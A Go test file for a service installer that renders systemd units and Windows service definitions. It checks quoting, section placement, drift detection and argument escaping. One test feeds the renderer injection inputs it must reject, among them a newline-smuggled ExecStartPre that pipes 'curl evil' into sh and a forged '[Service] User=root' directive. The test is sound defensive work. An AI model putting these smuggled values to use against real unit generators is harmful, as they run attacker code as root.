package svc

import (
	"encoding/json"
	"flag"
	"os"
	"path/filepath"
	"strings"
	"testing"

	"github.com/google/go-cmp/cmp"
)

var update = flag.Bool("update", false, "rewrite the golden files under testdata/")

// standard is the service as `berth-agent service install` defines it on a
// host with the platform's default paths.
func standard(exe string) Config {
	return Config{Executable: exe, Arguments: []string{"run", "--config", "/etc/berth/agent.yaml"}}
}

// golden compares got with testdata/name, rewriting it under -update.
func golden(t *testing.T, name string, got []byte) {
	t.Helper()
	path := filepath.Join("testdata", name)
	if *update {
		if err := os.WriteFile(path, got, 0o644); err != nil {
			t.Fatal(err)
		}
	}
	want, err := os.ReadFile(path)
	if err != nil {
		t.Fatalf("read golden file (run with -update to create it): %v", err)
	}
	if diff := cmp.Diff(string(want), string(got)); diff != "" {
		t.Errorf("rendered output differs from %s (-want +got):\n%s", path, diff)
	}
}

func TestSystemdUnitGolden(t *testing.T) {
	unit, err := RenderUnit(standard("/usr/bin/berth-agent"))
	if err != nil {
		t.Fatal(err)
	}
	golden(t, "berth-agent.service", unit)
}

func TestWindowsServiceGolden(t *testing.T) {
	cfg := Config{
		Executable: `C:\Program Files\Berth\berth-agent.exe`,
		Arguments:  []string{"run", "--config", `C:\ProgramData\Berth\agent.yaml`},
	}
	b, err := json.MarshalIndent(WindowsService(cfg), "", "  ")
	if err != nil {
		t.Fatal(err)
	}
	golden(t, "berth-agent.windows.json", append(b, '\n'))
}

func TestSystemdUnitSections(t *testing.T) {
	// Keys systemd ignores when misplaced: check each is in its section.
	want := map[string]string{
		"StartLimitIntervalSec": "[Unit]",
		"StartLimitBurst":       "[Unit]",
		"After":                 "[Unit]",
		"Wants":                 "[Unit]",
		"Restart":               "[Service]",
		"RestartSec":            "[Service]",
		"KillMode":              "[Service]",
		"WantedBy":              "[Install]",
	}
	section := ""
	got := map[string]string{}
	for _, line := range strings.Split(systemdUnit, "\n") {
		if strings.HasPrefix(line, "[") && strings.HasSuffix(line, "]") {
			section = line
			continue
		}
		if k, _, ok := strings.Cut(line, "="); ok {
			if _, asked := want[k]; asked {
				got[k] = section
			}
		}
	}
	if diff := cmp.Diff(want, got); diff != "" {
		t.Errorf("sections (-want +got):\n%s", diff)
	}
}

func TestRenderUnitQuoting(t *testing.T) {
	tests := []struct {
		name string
		cfg  Config
		want string // the ExecStart line
	}{
		{"plain", standard("/usr/bin/berth-agent"), `ExecStart=/usr/bin/berth-agent "run" "--config" "/etc/berth/agent.yaml"`},
		{"space in path", Config{Executable: "/opt/my tools/berth-agent", Arguments: []string{"run"}}, `ExecStart=/opt/my\x20tools/berth-agent "run"`},
		{"specifiers and variables", Config{Executable: "/usr/bin/berth-agent", Arguments: []string{"--config", "/etc/%n/$HOME.yaml"}}, `ExecStart=/usr/bin/berth-agent "--config" "/etc/%%n/$$HOME.yaml"`},
		{"quotes and backslashes", Config{Executable: "/usr/bin/berth-agent", Arguments: []string{`a"b\c`}}, `ExecStart=/usr/bin/berth-agent "a\"b\\c"`},
	}
	for _, tc := range tests {
		t.Run(tc.name, func(t *testing.T) {
			unit, err := RenderUnit(tc.cfg)
			if err != nil {
				t.Fatal(err)
			}
			var got string
			for _, l := range strings.Split(string(unit), "\n") {
				if strings.HasPrefix(l, "ExecStart=") {
					got = l
				}
			}
			if got != tc.want {
				t.Errorf("ExecStart line = %s; want %s", got, tc.want)
			}
		})
	}
}

// TestRenderUnitRefusesInjection: a newline in any field would let it add a
// directive of its own to a unit that runs as root.
func TestRenderUnitRefusesInjection(t *testing.T) {
	for name, cfg := range map[string]Config{
		"newline in an argument":  {Executable: "/usr/bin/berth-agent", Arguments: []string{"run", "--config", "/x.yaml\nExecStartPre=/bin/sh -c 'curl evil|sh'"}},
		"newline in description":  {Executable: "/usr/bin/berth-agent", Description: "agent\n[Service]\nUser=root"},
		"carriage return in exe":  {Executable: "/usr/bin/berth-agent\r"},
		"relative executable":     {Executable: "berth-agent"},
		"slash in the name":       {Executable: "/usr/bin/berth-agent", Name: "../../tmp/x"},
		"NUL in an argument":      {Executable: "/usr/bin/berth-agent", Arguments: []string{"a\x00b"}},
		"escape in the argument":  {Executable: "/usr/bin/berth-agent", Arguments: []string{"\x1b[2J"}},
		"tab splitting a command": {Executable: "/usr/bin/berth-agent\t/bin/sh"},
	} {
		t.Run(name, func(t *testing.T) {
			if unit, err := RenderUnit(cfg); err == nil {
				t.Errorf("RenderUnit accepted it:\n%s", unit)
			}
		})
	}
}

func TestUnitChange(t *testing.T) {
	want := []byte("[Unit]\nDescription=x\n")
	tests := []struct {
		name    string
		exists  bool
		current []byte
		wantCh  InstallChange
	}{
		{"absent", false, nil, Created},
		{"same", true, want, Unchanged},
		{"edited by hand", true, []byte("[Unit]\nDescription=x\nRestart=no\n"), Repaired},
		{"empty file", true, []byte{}, Repaired},
	}
	for _, tc := range tests {
		t.Run(tc.name, func(t *testing.T) {
			if got := unitChange(tc.exists, tc.current, want); got != tc.wantCh {
				t.Errorf("unitChange = %q; want %q", got, tc.wantCh)
			}
		})
	}
}

func TestWindowsDefinitionDrift(t *testing.T) {
	want := WindowsService(standard(`C:\Program Files\Berth\berth-agent.exe`))
	tests := []struct {
		name   string
		change func(d *WindowsDefinition)
		drift  []string
	}{
		{"same", func(*WindowsDefinition) {}, nil},
		{"account reported with .\\ and another case", func(d *WindowsDefinition) { d.Account = `.\localsystem` }, nil},
		{"manual start", func(d *WindowsDefinition) { d.StartType = "manual" }, []string{"startType"}},
		{"not delayed", func(d *WindowsDefinition) { d.DelayedAutoStart = false }, []string{"delayedAutoStart"}},
		{"other binary", func(d *WindowsDefinition) { d.BinaryPathName = `C:\old\berth-agent.exe run` }, []string{"binaryPathName"}},
		{"a user account", func(d *WindowsDefinition) { d.Account = `CONTOSO\svc-berth` }, []string{"account"}},
		{"recovery cleared", func(d *WindowsDefinition) { d.Recovery = nil; d.RecoveryOnNonCrashFailures = false },
			[]string{"recovery", "recoveryOnNonCrashFailures"}},
		{"one delay changed", func(d *WindowsDefinition) {
			d.Recovery = append([]RecoveryStep(nil), d.Recovery...)
			d.Recovery[2].Delay *= 2
		}, []string{"recovery"}},
		{"description and reset", func(d *WindowsDefinition) { d.Description = ""; d.RecoveryResetSeconds = 0 },
			[]string{"description", "recoveryResetSeconds"}},
	}
	for _, tc := range tests {
		t.Run(tc.name, func(t *testing.T) {
			got := want
			tc.change(&got)
			if diff := cmp.Diff(tc.drift, want.Drift(got)); diff != "" {
				t.Errorf("Drift (-want +got):\n%s", diff)
			}
		})
	}
}

func TestEscapeArg(t *testing.T) {
	// The cases of Go's syscall.EscapeArg documentation and tests.
	tests := map[string]string{
		"":                             `""`,
		"run":                          "run",
		`C:\Berth\a.exe`:               `C:\Berth\a.exe`,
		`C:\Program Files\Berth\a.exe`: `"C:\Program Files\Berth\a.exe"`,
		`a"b`:                          `a\"b`,
		`a\"b`:                         `a\\\"b`,
		`with space\`:                  `"with space\\"`,
		"tab\there":                    "\"tab\there\"",
		`\\server\share`:               `\\server\share`,
	}
	for in, want := range tests {
		if got := escapeArg(in); got != want {
			t.Errorf("escapeArg(%q) = %s; want %s", in, got, want)
		}
	}
}
